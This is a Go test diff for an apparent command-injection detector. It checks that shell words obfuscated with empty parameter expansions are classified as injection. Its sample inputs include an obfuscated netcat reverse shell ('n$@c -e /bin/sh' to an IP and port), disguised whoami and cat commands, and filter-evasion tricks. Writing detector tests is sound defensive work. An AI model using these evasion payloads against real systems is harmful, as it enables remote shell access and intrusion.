@@ -146,3 +146,23 @@ func TestCommandShellsOwnName(t *testing.T) {
 		assert.Equal(t, want, String(v), "%q", v)
 	}
 }
+
+// TestCommandThroughGluedEmptyParameters: a shell drops $@, $*, $1, $-
+// (dash), ${x} and the $ of $'…' inside a word as it drops quotes, so
+// "wh$@oami" and "c${u}at /etc/x" run whoami and cat; the word was read
+// again without quotes, backslashes and carets only, and a command whose
+// first letters were no word command passed ("who$@ami" was found for
+// who).
+func TestCommandThroughGluedEmptyParameters(t *testing.T) {
+	for v, want := range map[string]Class{
+		"a;wh$@oami": CommandInjection, "a;wh${x}oami": CommandInjection, "a;ca${u}t /etc/x": CommandInjection,
+		"a;n$@c -e /bin/sh 10.0.0.1 4444": CommandInjection, "a;wh$'o'ami": CommandInjection, "a;w$-hoami": CommandInjection,
+		"a;wh${x:-}oami": CommandInjection, "|/bin/wh$@oami": CommandInjection,
+		"a;wh$xoami": None, "a;wh${x:-y}oami": None, "x & US$5 fee": None, "R&D$1M budget": None, "a;who$": None,
+	} {
+		assert.Equal(t, want, String(v), "%q", v)
+	}
+	for _, s := range []string{";x$@", ";x${y}", ";$'", ";a$@b$@"} {
+		assert.Equal(t, None, String(strings.Repeat(s, 256<<10/len(s))), "a run of %q is read once", s)
+	}
+}
